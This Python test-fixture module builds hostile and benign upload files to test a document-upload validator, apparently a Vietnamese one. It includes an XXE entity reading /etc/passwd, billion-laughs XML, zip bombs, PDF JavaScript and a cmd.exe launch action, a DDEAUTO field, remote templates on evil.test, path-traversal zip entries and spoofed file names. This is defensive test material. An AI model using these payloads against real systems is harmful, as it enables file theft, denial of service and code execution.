# ruff: noqa: E501 (a table of inputs: one line each)
"""Every kind of file that people and attackers hand in, built in code: good ones, and bad ones each with what the
person has to be told.
"""

import hashlib
import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

SECRET = "KN-tac-gia-bi-mat"  # stands wherever names of authors hide; must never be stored
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}


# --- PDF -------------------------------------------------------------------------------------------
def raw_pdf(*objects: str | bytes, trailer: str = "/Root 1 0 R", tail: bytes = b"") -> bytes:
    """A PDF of hand-written objects, numbered from 1, with a right table of contents."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        body = body if isinstance(body, bytes) else body.encode()
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(places) + 1} {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out) + tail


def stream(data: bytes, facts: str = "") -> bytes:
    return f"<< {facts} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def page_pdf(content: bytes = b"BT /F1 12 Tf 50 700 Td (Bao cao) Tj ET", *more: str | bytes, catalog: str = "",
             page: str = "", box: str = "0 0 595 842", trailer: str = "/Root 1 0 R", tail: bytes = b"") -> bytes:  # fmt: skip
    return raw_pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> >> {page} >>",
        stream(content),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
        trailer=trailer,
        tail=tail,
    )


def good_pdf(author: str = SECRET) -> bytes:
    """One page with text, and the author's name in both places where PDF files keep it."""
    packet = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        'xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" pdfaid:part="2" pdfaid:conformance="B">'
        f'<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">{author}</dc:creator></rdf:Description>'
        '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    ).encode()
    return page_pdf(
        b"BT /F1 12 Tf 50 700 Td (Bao cao) Tj ET",
        stream(packet, "/Type /Metadata /Subtype /XML"),
        f"<< /Author ({author}) /Creator ({author}) /Title ({author}.docx) >>",
        catalog="/Metadata 6 0 R",
        trailer="/Root 1 0 R /Info 7 0 R",
    )


def scanned_pdf() -> bytes:
    """A page that is a picture: no letters in it."""
    picture = stream(zlib.compress(b"\xff" * 300), "/Type /XObject /Subtype /Image /Width 10 /Height 10 "
                     "/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode")  # fmt: skip
    return raw_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /XObject << /I 5 0 R >> >> >>",
        stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        picture,
    )


def signed_pdf(*, is_altered: bool = False, added: bytes = b"") -> bytes:
    """A page with a signature whose sealed digest is that of its byte range (no certificate: nobody asks for one)."""
    hole = 200
    body = page_pdf(
        b"BT /F1 12 Tf 50 700 Td (Quyet dinh) Tj ET",
        "<< /Fields [7 0 R] /SigFlags 3 >>",
        "<< /FT /Sig /T (ky) /V 8 0 R >>",
        "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
        f"/ByteRange [0 {'0' * 8} {'0' * 8} {'0' * 8}] /Contents <{'0' * hole}> >>",
        catalog="/AcroForm 6 0 R",
    )
    opens = body.index(b"/Contents <0") + len(b"/Contents ")
    closes = opens + hole + 2
    numbers = f"[0 {opens:08d} {closes:08d} {len(body) - closes:08d}]".encode()
    body = body.replace(f"[0 {'0' * 8} {'0' * 8} {'0' * 8}]".encode(), numbers)
    digest = hashlib.sha256(body[:opens] + body[closes:]).digest()
    sealed = bytes.fromhex("06092a864886f70d010904") + b"\x31\x22\x04\x20" + digest
    body = body[: opens + 1] + sealed.hex().ljust(hole, "0").encode() + body[closes - 1 :]
    return (body.replace(b"(Quyet dinh)", b"(Quyet dlnh)") if is_altered else body) + added


def many_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    return written(writer)


def locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("mat-khau", algorithm="AES-256")
    return written(writer)


def pdf_with_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("hoa-don.xml", b"<a/>")
    return written(writer)


def pdf_with_script() -> bytes:
    return page_pdf(
        catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"
    )


def pdf_with_note() -> bytes:
    """An ordinary annotation and a link: nothing wrong with them."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    writer.add_annotation(0, FreeText(text="Góp ý", rect=(10, 10, 90, 40)))
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject(NumberObject(n) for n in (0, 0, 9, 9)),
        NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                            NameObject("/URI"): TextStringObject("https://example.gov.vn")}),
    })  # fmt: skip
    page[NameObject("/Annots")].append(writer._add_object(link))
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def bomb_pdf() -> bytes:
    """A page whose drawing unpacks to a gigabyte."""
    squeezer = zlib.compressobj(9)
    data = b"".join(squeezer.compress(b" " * (1 << 20)) for _ in range(1024)) + squeezer.flush()
    return raw_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        stream(data, "/Filter /FlateDecode"),
    )


# --- office ----------------------------------------------------------------------------------------
def package(extension: str, parts: dict[str, str | bytes] | None = None, *, types: str = "") -> bytes:
    """A small Word or Excel file with further parts; a part given as "" is left out."""
    path, kind = MAIN[extension]
    text = f'<w:document xmlns:w="w"><w:body><w:p>Nội dung</w:p></w:body></w:document>{" " * 300}'
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types><Override PartName="/{path}" ContentType="{kind}"/>{types}</Types>',
        "_rels/.rels": f'<Relationships><Relationship Id="r1" Type="{RELS}/officeDocument" Target="{path}"/></Relationships>',
        path: text,
        "docProps/core.xml": '<cp:coreProperties xmlns:cp="cp" xmlns:dc="dc" xmlns:xsi="xsi"><dc:title>Báo cáo</dc:title>'
        f"<dc:creator>{SECRET}</dc:creator><cp:lastModifiedBy>{SECRET}</cp:lastModifiedBy>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z</dcterms:created></cp:coreProperties>',
        "docProps/app.xml": f"<Properties><Company>{SECRET}</Company><Manager>{SECRET}</Manager><Pages>1</Pages></Properties>",
        "docProps/custom.xml": f'<Properties><property name="x"><vt:lpwstr>{SECRET}</vt:lpwstr></property></Properties>',
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in (base | (parts or {})).items():
            if body != "":
                archive.writestr(name, body)
    return content.getvalue()


def relation(kind: str, target: str) -> str:
    return (
        f'<Relationships><Relationship Id="r9" Type="{RELS}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


def with_entry(extension: str, change: Callable[[zipfile.ZipInfo], None], name: str = "word/x.xml") -> bytes:
    """A package with one more entry of peculiar facts."""
    content = io.BytesIO(package(extension))
    with zipfile.ZipFile(content, "a") as archive:
        entry = zipfile.ZipInfo(name)
        change(entry)
        archive.writestr(entry, b"x")
    return content.getvalue()


def _symlink(entry: zipfile.ZipInfo) -> None:
    entry.create_system, entry.external_attr = 3, 0o120777 << 16


def _nothing(entry: zipfile.ZipInfo) -> None:
    pass


def locked_zip() -> bytes:
    """The same package with the flag «has a password» on its last entry."""
    raw = bytearray(package("docx"))
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        raw[raw.rindex(mark) + offset] |= 1
    return bytes(raw)


def workbook() -> bytes:
    book, content = Workbook(), io.BytesIO()
    book.active.append(["Họ tên", "Đơn vị"])
    book.save(content)
    return content.getvalue()


def zipped(name: str, body: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body)
    return content.getvalue()


def nest(levels: int) -> bytes:
    body = b"0" * 100_000
    for level in range(levels):
        body = zipped(f"{level}.zip", body)
    return body


# --- pictures --------------------------------------------------------------------------------------
def photo(
    kind: str = "JPEG", *, turned: int = 1, tail: bytes = b"", size: tuple[int, int] = (60, 40)
) -> bytes:
    """A picture with place and author as a phone writes them; blue in its first corner."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (0, 0, 20, 20))
    facts = Image.Exif()
    facts[0x0112], facts[0x013B], facts[0x8825] = turned, SECRET, {1: "N", 2: (21.0, 1.0, 40.0)}
    content = io.BytesIO()
    options = {"comment": SECRET.encode(), "quality": 90} if kind == "JPEG" else {}
    image.save(content, kind, exif=facts, **options)
    return content.getvalue() + tail


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is that large; its content is a few bytes."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9))
        + chunk(b"IEND", b"")
    )


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header says it is that large."""
    raw = bytearray(photo())
    at = raw.index(b"\xff\xc0")
    raw[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(raw)


# --- the corpus --------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Bad:
    """One bad file: number in the list of inputs, name as sent, content, and words the person must read."""

    number: int
    name: str
    content: Callable[[], bytes]
    words: str


def bad_files() -> dict[str, Bad]:
    """id → bad file; contents are built when asked for."""
    rel, docx, xlsx = relation, "bao-cao.docx", "bang.xlsx"
    office_only = "Chỉ nhận tệp .pdf"
    loop = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    rows = [
        ("empty", 1, "rong.pdf", lambda: b"", "Tệp rỗng, hãy chọn lại."),
        ("empty docx", 1, "rong.docx", lambda: b"", "Tệp rỗng, hãy chọn lại."),
        ("exe as pdf", 3, "a.pdf", lambda: b"MZ" + b"\0" * 200, "không phải .pdf"),
        ("exe as docx", 3, "a.docx", lambda: b"MZ" + b"\0" * 200, "không phải .docx"),
        ("exe as jpg", 3, "a.jpg", lambda: b"MZ" + b"\0" * 200, "không phải .jpg"),
        ("html as docx", 4, "a.docx", lambda: b"<html><script>alert(1)</script>", "không phải .docx"),
        ("html as pdf", 4, "a.pdf", lambda: b"<html><script>alert(1)</script>", "không phải .pdf"),
        ("html as png", 4, "a.png", lambda: b"<svg onload=alert(1)>", "không phải .png"),
        ("pdf as png", 4, "a.png", good_pdf, "không phải .png"),
        ("xlsx as docx", 4, "a.docx", workbook, "không phải .docx"),
        ("docx as xlsx", 4, "a.xlsx", lambda: package("docx"), "không phải .xlsx"),
        ("zip as docx", 4, "a.docx", lambda: zipped("a.txt", b"x"), "Tệp bị hỏng"),
        ("docm", 8, "a.docm", lambda: package("docx"), "có thể chứa macro"),
        ("xlsm", 8, "a.xlsm", workbook, "có thể chứa macro"),
        ("macro part", 8, docx, lambda: package("docx", {"word/vbaProject.bin": b"x"}), "có chứa macro"),
        ("macro type", 8, docx, lambda: package("docx", types="<x t='application/vnd.ms-word.document.macroEnabled.main+xml'/>"), "có chứa macro"),
        ("active x", 8, docx, lambda: package("docx", {"word/activeX/activeX1.bin": b"x"}), "có chứa macro"),
        ("embedded ole", 9, docx, lambda: package("docx", {"word/embeddings/oleObject1.bin": OLE}), "đối tượng OLE"),
        ("embedded exe", 9, docx, lambda: package("docx", {"word/media/a.png": b"MZ" + b"\0" * 64}), "đối tượng OLE"),
        ("embedded text", 9, docx, lambda: package("docx", {"word/embeddings/a.js": b"alert(1)"}), "đối tượng OLE"),
        ("old doc", 10, "cu.doc", lambda: OLE, "dạng .docx"),
        ("old xls", 10, "cu.xls", lambda: OLE, "dạng .xlsx"),
        ("old doc renamed", 10, docx, lambda: OLE, "định dạng văn phòng cũ"),
        ("locked office", 9, xlsx, lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "Tệp có mật khẩu"),
        ("locked zip", 9, docx, locked_zip, "Tệp có mật khẩu"),
        ("pixel flood png", 11, "anh.png", lambda: png_of(60_000, 60_000), "60000 × 60000 điểm ảnh"),
        ("pixel flood jpeg", 11, "anh.jpg", lambda: jpeg_of(60_000, 60_000), "60000 × 60000 điểm ảnh"),
        ("cut jpeg", 12, "anh.jpg", lambda: photo()[:-200], "Ảnh bị hỏng"),
        ("cut png", 12, "anh.png", lambda: photo("PNG")[:-20], "Ảnh bị hỏng"),
        ("altered png", 12, "anh.png", lambda: photo("PNG").replace(b"IDATx", b"IDATy"), "Ảnh bị hỏng"),
        ("heic", 13, "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 64, "lưu (xuất) thành .jpg"),
        ("heic as jpg", 13, "IMG_1.jpg", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 64, "lưu (xuất) thành .jpg"),
        ("double extension", 19, "bao-cao.pdf.exe", good_pdf, office_only),
        ("no extension", 19, "baocao", good_pdf, office_only),
        ("svg", 19, "anh.svg", lambda: b"<svg/>", office_only),
        ("html", 19, "a.html", lambda: b"<html>", office_only),
        ("hidden extension", 19, "a.pdf\u202exslx.exe", good_pdf, office_only),
        ("cut pdf", 23, "a.pdf", lambda: good_pdf()[:400], "PDF bị hỏng"),
        ("pdf without xref", 23, "a.pdf", lambda: good_pdf().split(b"xref")[0], "PDF bị hỏng"),
        ("pdf of garbage", 23, "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "PDF bị hỏng"),
        ("wrong xref", 23, "a.pdf", lambda: good_pdf().replace(b"startxref\n", b"startxref\n9"), "PDF bị hỏng"),
        ("no pages", 23, "a.pdf", lambda: raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"), "PDF bị hỏng"),
        ("locked pdf", 24, "a.pdf", locked_pdf, "PDF có mật khẩu"),
        ("inline picture without end", 25, "a.pdf", lambda: page_pdf(b"q BI /W 9 /H 9 /BPC 8 /CS /G ID \x00\x01\x02"), "PDF bị hỏng"),
        ("pages in a circle", 25, "a.pdf", lambda: raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", loop), "PDF bị hỏng"),
        ("outline in a circle", 25, "a.pdf", lambda: page_pdf(b"", "<< /Type /Outlines /First 7 0 R >>", "<< /Title (a) /Next 7 0 R >>", catalog="/Outlines 6 0 R"), "PDF bị hỏng"),
        ("page unpacking to a gigabyte", 25, "a.pdf", bomb_pdf, "PDF"),
        ("501 pages", 26, "a.pdf", lambda: many_pages(501), "hơn 500 trang"),
        ("huge page", 26, "a.pdf", lambda: page_pdf(box="0 0 14401 100"), "khổ quá lớn"),
        ("huge page by unit", 26, "a.pdf", lambda: page_pdf(box="0 0 2000 2000", page="/UserUnit 10"), "khổ quá lớn"),
        ("script in pdf", 27, "a.pdf", pdf_with_script, "mã lệnh tự chạy"),
        ("launch in pdf", 27, "a.pdf", lambda: page_pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "mã lệnh tự chạy"),
        ("script on a key", 27, "a.pdf", lambda: page_pdf(page="/AA << /O << /S /JavaScript /JS (x) >> >>"), "mã lệnh tự chạy"),
        ("dynamic form", 27, "a.pdf", lambda: page_pdf(catalog="/AcroForm << /Fields [] /XFA (x) >>"), "mã lệnh tự chạy"),
        ("file in pdf", 27, "a.pdf", pdf_with_file, "tệp khác đính kèm"),
        ("altered after signing", 28, "a.pdf", lambda: signed_pdf(is_altered=True), "Chữ ký số không hợp lệ"),
        ("nested zips", 31, xlsx, lambda: package("xlsx", {"xl/media/a.zip": nest(42)}), "có tệp nén khác"),
        ("nested zip without name", 31, docx, lambda: package("docx", {"word/media/a.png": nest(1)}), "có tệp nén khác"),
        ("nested books", 31, docx, lambda: package("docx", {"word/embeddings/a.xlsx": package("xlsx", {"xl/embeddings/b.xlsx": workbook()})}), "có tệp nén khác"),
        ("billion laughs", 32, xlsx, lambda: package("xlsx", {"xl/worksheets/sheet1.xml": '<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;">]><a>&m;</a>'}), "bất thường"),
        ("outside entity", 32, docx, lambda: package("docx", {"word/x.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}), "bất thường"),
        ("entity in utf-16", 32, docx, lambda: package("docx", {"word/x.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16")}), "bất thường"),
        ("bomb", 33, docx, lambda: package("docx", {"word/media/a.xml": b"0" * 30_000_000}), "bất thường"),
        ("many parts", 33, docx, lambda: package("docx", {f"word/{n}.xml": "<a/>" for n in range(2001)}), "quá lớn"),
        ("300 MB of pictures", 56, docx, lambda: package("docx", {f"word/media/{n}.bin": b"".join(bytes([n, m]) * 17_000 for m in range(256)) for n in range(26)} | {"word/media/x.bin": b"\1" * 900_000}), "quá lớn"),
        ("upward path", 33, docx, lambda: with_entry("docx", _nothing, "../../etc/x.xml"), "bất thường"),
        ("absolute path", 33, docx, lambda: with_entry("docx", _nothing, "/etc/x.xml"), "bất thường"),
        ("drive path", 33, docx, lambda: with_entry("docx", _nothing, "C:/x.xml"), "bất thường"),
        ("symbolic link", 33, docx, lambda: with_entry("docx", _symlink), "bất thường"),
        ("twice the same part", 33, docx, lambda: with_entry("docx", _nothing, "WORD/document.xml"), "bất thường"),
        ("cut docx", 33, docx, lambda: package("docx")[:-40], "Tệp bị hỏng"),
        ("altered docx", 33, docx, lambda: _flipped(package("docx")), "Tệp bị hỏng"),
        ("outside template", 56, docx, lambda: package("docx", {"word/_rels/settings.xml.rels": rel("attachedTemplate", "http://evil.test/x.dotm")}), "liên kết tự mở tới tệp ở ngoài (mẫu văn bản)"),
        ("outside picture", 56, docx, lambda: package("docx", {"word/_rels/document.xml.rels": rel("image", "http://evil.test/x.png")}), "liên kết tự mở tới tệp ở ngoài (ảnh)"),
        ("outside object", 56, docx, lambda: package("docx", {"word/_rels/document.xml.rels": rel("oleObject", "file:///x")}), "liên kết tự mở tới tệp ở ngoài (đối tượng nhúng)"),
        ("dde field", 56, docx, lambda: package("docx", {"word/document.xml": "<w:document><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:document>"}), "liên kết tự mở"),
        ("dde in a book", 56, xlsx, lambda: package("xlsx", {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}), "liên kết tự mở"),
    ]  # fmt: skip
    return {key: Bad(number, name, content, words) for key, number, name, content, words in rows}


def _flipped(raw: bytes) -> bytes:
    """One bit of the first part's compressed content changed."""
    at = raw.index(b"PK\x03\x04", 4) - 8
    return raw[:at] + bytes([raw[at] ^ 0x10]) + raw[at + 1 :]


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf": ("bao-cao.pdf", good_pdf),
    "pdf with links": ("bao-cao.pdf", pdf_with_note),
    "scanned pdf": ("ban-chup.pdf", scanned_pdf),
    "signed pdf": ("quyet-dinh.pdf", signed_pdf),
    "pdf with a zip behind it": ("bao-cao.pdf", lambda: good_pdf() + zipped("a.html", b"<html>")),
    "pdf with html before it": ("bao-cao.pdf", lambda: _shifted(good_pdf(), b"<html><script>alert(1)</script>\n")),
    "docx": ("bao-cao.docx", lambda: package("docx")),
    "docx with a chart": ("bao-cao.docx", lambda: package("docx", {"word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook()})),
    "docx with links": ("bao-cao.docx", lambda: package("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://example.gov.vn")})),
    "xlsx": ("bang.xlsx", workbook),
    "photo": ("anh.jpg", photo),
    "photo held upright": ("anh.jpeg", lambda: photo(turned=6)),
    "png": ("anh.PNG", lambda: photo("PNG")),
}  # fmt: skip

NAMES = {
    "NUL and line break": ("bao\x00 cao\n\r\t.pdf", "bao cao.pdf"),
    "quotes": ('bao "cao" a\'b.pdf', "bao cao a'b.pdf"),
    "300 characters": ("ă" * 300 + ".pdf", "ă" * 118 + ".pdf"),
    "only dots": ("....pdf", "tep.pdf"),
    "reserved": ("CON.pdf", "_CON.pdf"),
    "reserved with more": ("aux.v2.pdf", "_aux.v2.pdf"),
    "NFD": (unicodedata.normalize("NFD", "Báo cáo.pdf"), "Báo cáo.pdf"),
    "path": ("../../etc/passwd/a.pdf", "a.pdf"),
    "windows path": ("C:\\Users\\a\\báo cáo.pdf", "báo cáo.pdf"),
    "turned around": ("bao\u202efdp.cao.pdf", "baofdp.cao.pdf"),
    "wild": ('a<b>:c|d?e*f.pdf', "a b c d e f.pdf"),
    "percent": ("100%25 đạt; tốt=1.pdf", "100%25 đạt; tốt=1.pdf"),
}  # fmt: skip


def _shifted(pdf: bytes, head: bytes) -> bytes:
    """The same PDF behind other bytes, its places corrected."""
    lines, shift = pdf.split(b"\n"), len(head)
    for number, line in enumerate(lines):
        if line.endswith(b" 00000 n "):
            lines[number] = f"{int(line[:10]) + shift:010d} 00000 n ".encode()
        if line == b"startxref":
            lines[number + 1] = str(int(lines[number + 1]) + shift).encode()
    return head + b"\n".join(lines)
